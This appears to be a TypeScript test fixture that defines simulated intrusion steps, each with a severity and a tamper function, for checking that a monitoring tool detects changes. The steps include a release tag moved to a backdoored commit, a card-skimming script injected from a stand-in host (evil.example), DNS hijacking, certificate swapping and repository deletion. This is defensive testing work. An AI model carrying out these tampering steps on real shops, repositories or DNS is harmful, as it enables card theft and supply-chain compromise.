import type { Severity } from "#contracts/severity.ts";
import { releaseTag, shopName } from "./scenery.ts";
import type { Scenery } from "./scenery.ts";

/** One thing that an intruder does, and the change it must raise. */
export interface Step {
  /** One sentence. */
  attack: string;
  module: string;
  attribute: string;
  severity: Severity;
  tamper(scenery: Scenery): Promise<void> | void;
}

export const steps: Step[] = [
  {
    attack: `The release tag ${releaseTag} is moved to a commit with a back door, which is on no branch.`,
    module: "git",
    attribute: `tag/${releaseTag}`,
    severity: "critical",
    tamper: async ({ repository }) => {
      const parent = await repository.git(["rev-parse", `${releaseTag}^{commit}`]);
      await repository.annotatedTag(releaseTag, await repository.strayCommit("Nothing to see here", parent));
    },
  },
  {
    attack: "A script that reads card numbers is put into the shop's page.",
    module: "http",
    attribute: "scripts",
    severity: "high",
    tamper: ({ shop }) => shop.injectScript("https://evil.example/skimmer.js"),
  },
  {
    attack: "The header that keeps other sites from framing the page is switched off.",
    module: "http",
    attribute: "header/x-frame-options",
    severity: "medium",
    tamper: ({ shop }) => shop.dropHeader("x-frame-options"),
  },
  {
    attack: "Somebody in the middle answers with a certificate that another authority issued.",
    module: "tls",
    attribute: "certificate",
    severity: "high",
    tamper: (scenery) => scenery.swapCertificate(),
  },
  {
    attack: `The DNS answer for ${shopName} is hijacked: its address is now the intruder's.`,
    module: "dns",
    attribute: "a",
    severity: "high",
    tamper: ({ dns }) => dns.set(shopName, "A", [{ name: shopName, type: "A", ttl: 5, data: "203.0.113.66" }]),
  },
  {
    attack: "The repository is deleted, so that anybody may take its name.",
    module: "git",
    attribute: "exists",
    severity: "high",
    tamper: async ({ repository }) => await repository.remove(),
  },
];
